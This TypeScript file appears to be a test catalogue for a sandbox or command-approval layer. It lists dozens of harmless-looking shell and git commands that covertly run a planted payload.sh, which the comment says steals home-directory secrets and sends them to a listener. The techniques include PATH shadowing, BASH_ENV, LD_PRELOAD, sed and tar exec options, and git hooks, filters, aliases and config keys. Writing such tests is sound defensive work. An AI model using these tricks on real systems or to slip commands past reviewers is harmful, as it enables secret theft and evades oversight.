// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are lines of a shell, not templates
import type { AttackClass } from '../attack.ts'

const plantLs = 'mkdir -p node_modules/.bin; cp payload.sh node_modules/.bin/ls'
const asPackage = `echo '{"scripts":{"test":"./payload.sh"}}' > package.json`

/**
 * Code of the workspace that runs with a line that looks harmless. `payload.sh` shows the secrets of the home, copies
 * them to the folder outside and sends them to a listener.
 */
export const code: AttackClass = {
  name: 'code of the workspace',
  leak: 'outside',
  attacks: [
    { name: 'program planted in PATH', line: 'ls', setup: plantLs },
    { name: 'program planted in PATH by the line', line: 'PATH=.:$PATH; head notes.txt', setup: 'cp payload.sh head' },
    { name: 'program in an empty entry of PATH', line: 'PATH=; ls', setup: 'cp payload.sh ls' },
    { name: 'function', line: 'ls() { ./payload.sh; }; ls' },
    { name: 'script', line: 'bash build.sh', setup: 'cp payload.sh build.sh' },
    { name: 'BASH_ENV', line: 'BASH_ENV=./payload.sh bash -c true' },
    { name: 'sed that runs', line: "sed '1e ./payload.sh' notes.txt" },
    { name: 'sed that runs a line', line: "echo ./payload.sh | sed 's/x*/&/e'" },
    { name: 'rg with a preprocessor', line: 'rg --pre ./payload.sh x .', needs: ['rg'] },
    { name: 'tar checkpoint', line: 'tar cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec=./payload.sh' },
    { name: 'tar to a command', line: 'tar xf a.tar --to-command=./payload.sh', setup: 'tar cf a.tar notes.txt' },
    { name: 'tar compressor', line: 'tar -I ./payload.sh -cf /dev/null notes.txt' },
    { name: 'sort compressor', line: 'seq 9999 | sort -S 1k --compress-prog=./payload.sh' },
    { name: 'find -exec', line: 'find . -maxdepth 0 -exec ./payload.sh \\;' },
    { name: 'awk system', line: 'awk \'BEGIN { system("./payload.sh") }\'' },
    { name: 'make', line: 'make', setup: "printf 'all:\\n\\t./payload.sh\\n' > Makefile", needs: ['make'] },
    { name: 'npm script', line: 'npm test', setup: asPackage, needs: ['npm'] },
    {
      name: 'module that shadows a library',
      line: "python3 -c 'import json'",
      setup: 'echo \'import os; os.system("./payload.sh")\' > json.py',
      needs: ['python3'],
    },
    {
      name: 'NODE_OPTIONS',
      line: 'NODE_OPTIONS="-r ./p.cjs" node -e 1',
      setup: 'echo \'require("child_process").execFileSync("./payload.sh")\' > p.cjs',
      needs: ['node'],
    },
    { name: 'perl', line: 'perl -e \'exec "./payload.sh"\'', needs: ['perl'] },
    { name: 'ssh proxy', line: 'ssh -o ProxyCommand=./payload.sh x', needs: ['ssh'] },
    { name: 'debugger', line: "gdb -batch -ex 'shell ./payload.sh'", needs: ['gdb'] },
    { name: 'compiler wrapper', line: 'gcc -wrapper ./payload.sh -E -x c notes.txt', needs: ['gcc'] },
    {
      name: 'preloaded library',
      line: 'LD_PRELOAD=./evil.so /bin/true',
      setup: `printf '%s\\n' '#include <stdlib.h>' '__attribute__((constructor)) void x(void) {' ' unsetenv("LD_PRELOAD"); system("./payload.sh"); }' > e.c
        gcc -shared -fPIC -o evil.so e.c`,
      needs: ['gcc'],
    },
    {
      name: 'program in memory',
      line: `python3 -c '
import os
fd = os.memfd_create("x", 0); os.write(fd, open("payload.sh", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["x"])'`,
      needs: ['python3'],
    },
    {
      name: 'tests',
      line: 'pytest -q',
      setup: 'echo \'import os; os.system("./payload.sh")\' > conftest.py',
      needs: ['pytest'],
    },
    {
      name: 'file that is run later',
      line: "printf 'all:\\n\\t./payload.sh\\n' > Makefile",
      later: 'make',
      leak: 'later',
      needs: ['make'],
      known: 'file that is run later',
    },
  ],
}

const evilConfig = (name: string, value = './payload.sh') => `git config ${name} '${value}'`
const withHook = (name: string) => `mkdir -p .git/hooks; cp payload.sh .git/hooks/${name}`

/** Programs that a repository names in its configuration, which git runs. */
export const git: AttackClass = {
  name: 'git configuration and hooks',
  leak: 'outside',
  attacks: [
    { name: 'fsmonitor', line: 'env -u GIT_CONFIG_COUNT git status', setup: evilConfig('core.fsmonitor') },
    { name: 'fsmonitor by the line', line: 'git -c core.fsmonitor=./payload.sh status' },
    { name: 'external diff', line: 'git diff', setup: `${evilConfig('diff.external')}; echo x >> notes.txt` },
    {
      name: 'external diff by a variable',
      line: 'GIT_EXTERNAL_DIFF=./payload.sh git diff',
      setup: 'echo x >> notes.txt',
    },
    {
      name: 'text conversion',
      line: 'git diff',
      setup: `${evilConfig('diff.x.textconv')}; echo '*.txt diff=x' > .gitattributes; echo x >> notes.txt`,
    },
    {
      name: 'clean filter',
      line: 'git diff --stat',
      setup: `${evilConfig('filter.x.clean')}; echo '*.txt filter=x' > .gitattributes; echo x >> notes.txt`,
    },
    { name: 'alias', line: 'git st', setup: evilConfig('alias.st', '!./payload.sh') },
    { name: 'alias by the line', line: "git -c alias.st='!./payload.sh' st" },
    { name: 'grep in a pager', line: 'git grep -O./payload.sh hello' },
    { name: 'hook of a commit', line: 'git commit -q --allow-empty -m x', setup: withHook('pre-commit') },
    { name: 'hook of a checkout', line: 'git checkout -q -b other', setup: withHook('post-checkout') },
    {
      name: 'folder of hooks',
      line: 'git commit -q --allow-empty -m x',
      setup: `${evilConfig('core.hooksPath', 'h')}; mkdir h; cp payload.sh h/pre-commit`,
    },
    {
      name: 'nested bare repository',
      line: 'cd docs/bare && env -u GIT_CONFIG_COUNT git diff HEAD~1 HEAD --ext-diff',
      setup: 'git clone -q --bare . docs/bare; git -C docs/bare config diff.external @WORK/payload.sh',
    },
    {
      name: 'nested repository',
      line: 'env -u GIT_CONFIG_COUNT git -C docs/n status',
      setup: 'git init -q docs/n; git -C docs/n config core.fsmonitor @WORK/payload.sh',
    },
    {
      name: 'included configuration',
      line: 'git diff',
      setup: `printf '[diff]\\n\\texternal = ./payload.sh\\n' > more; git config include.path ../more; echo x >> notes.txt`,
    },
    {
      name: 'command of ssh',
      line: 'env -u GIT_SSH_COMMAND git -c core.sshCommand=./payload.sh ls-remote ssh://localhost/x',
    },
    { name: 'upload program', line: 'git ls-remote --upload-pack=./payload.sh .' },
    { name: 'external transport', line: "git -c protocol.ext.allow=always ls-remote 'ext::./payload.sh'" },
    { name: 'signature program', line: 'git commit -q --allow-empty -S -m x', setup: evilConfig('gpg.program') },
    {
      name: 'credential helper',
      line: 'git credential fill <<< url=http://127.0.0.1/',
      setup: evilConfig('credential.helper', '!./payload.sh'),
    },
    { name: 'bisection', line: 'git bisect start HEAD HEAD~1; git bisect run ./payload.sh' },
    { name: 'command of a rebase', line: 'git rebase -q -x ./payload.sh HEAD~1' },
    { name: 'difference tool', line: 'git difftool -y -x ./payload.sh', setup: 'echo x >> notes.txt' },
    { name: 'editor by a variable', line: 'GIT_EDITOR=./payload.sh git commit --allow-empty' },
    {
      name: 'editor by the configuration',
      line: 'env -u GIT_EDITOR git commit --allow-empty',
      setup: evilConfig('core.editor'),
    },
    {
      name: 'pager by a variable',
      line: "GIT_PAGER=./payload.sh script -qc 'git log' /dev/null",
      needs: ['script'],
    },
    {
      name: 'pager by the configuration',
      line: "env -u GIT_PAGER script -qc 'git log' /dev/null",
      setup: evilConfig('core.pager'),
      needs: ['script'],
    },
    { name: 'ssh by a variable', line: 'GIT_SSH_COMMAND=./payload.sh git ls-remote ssh://localhost/x' },
    { name: 'proxy by a variable', line: 'GIT_PROXY_COMMAND=./payload.sh git ls-remote git://localhost/x' },
    { name: 'folder of commands', line: 'GIT_EXEC_PATH=$PWD git x', setup: 'cp payload.sh git-x' },
    { name: 'command in PATH', line: 'PATH=$PWD:$PATH git x', setup: 'cp payload.sh git-x' },
    { name: 'editor of a sequence', line: 'GIT_SEQUENCE_EDITOR=./payload.sh git rebase -i HEAD~1' },
    {
      name: 'filter of added files',
      line: 'git add -A',
      setup: `${evilConfig('filter.x.clean')}; echo '*.txt filter=x' > .gitattributes; echo x >> notes.txt`,
    },
    {
      name: 'filter of restored files',
      line: 'rm notes.txt; git checkout -- notes.txt',
      setup: `${evilConfig('filter.x.smudge')}; echo '*.txt filter=x' > .gitattributes`,
    },
    {
      name: 'filter by the line',
      line: 'git -c filter.x.clean=./payload.sh diff --stat',
      setup: "echo '*.txt filter=x' > .gitattributes; echo x >> notes.txt; touch -d 2001-01-01 notes.txt",
    },
    {
      name: 'driver of a merge',
      line: 'git merge -q other',
      setup: `git checkout -qb other; echo b > notes.txt; git commit -qam b; git checkout -q -; echo c > notes.txt; git commit -qam c
        ${evilConfig('merge.x.driver')}; echo '*.txt merge=x' > .git/info/attributes || { mkdir .git/info; echo '*.txt merge=x' > .git/info/attributes; }`,
    },
    {
      name: 'command of a difference',
      line: 'git log -p --ext-diff',
      setup: `${evilConfig('diff.x.command')}; mkdir -p .git/info; echo '* diff=x' > .git/info/attributes`,
    },
    { name: 'trailer', line: 'git interpret-trailers --trailer x=1 notes.txt', setup: evilConfig('trailer.x.command') },
    {
      name: 'command of a submodule',
      line: 'git submodule foreach ./../payload.sh',
      setup:
        'git init -q m; git -C m commit -q --allow-empty -m x; git -c protocol.file.allow=always submodule --quiet add ./m m',
    },
    {
      name: 'repository that a variable names',
      line: 'GIT_DIR=@WORK/other/.git git x',
      setup: "git init -q other; git -C other config alias.x '!@WORK/payload.sh'",
    },
    {
      name: 'configuration that a variable names',
      line: 'GIT_CONFIG_GLOBAL=$PWD/c git x',
      setup: "printf '[alias]\\n\\tx = !./payload.sh\\n' > c",
    },
    { name: 'parameters by a variable', line: `GIT_CONFIG_PARAMETERS="'alias.x=!./payload.sh'" git x` },
    {
      name: 'hook of a merge',
      line: 'git merge -q --no-ff --no-edit other',
      setup: `git branch other HEAD; git checkout -q other; git commit -q --allow-empty -m x; git checkout -q -; ${withHook('post-merge')}`,
    },
    {
      name: 'hook of a stash',
      line: 'git stash -q',
      setup: `echo x >> notes.txt; ${withHook('reference-transaction')}`,
    },
    {
      name: 'hook of the index',
      line: 'echo x >> notes.txt; git add notes.txt',
      setup: withHook('post-index-change'),
    },
    { name: 'help in a browser', line: 'git -c browser.x.cmd=./payload.sh web--browse -b x a' },
    { name: 'archive of a format', line: 'git archive --format=x HEAD', setup: evilConfig('tar.x.command') },
    {
      name: 'clone with a template',
      line: 'git clone -q --template=t . /tmp/@ID && rm -rf /tmp/@ID',
      setup: 'mkdir -p t/hooks; cp payload.sh t/hooks/post-checkout',
    },
  ],
}
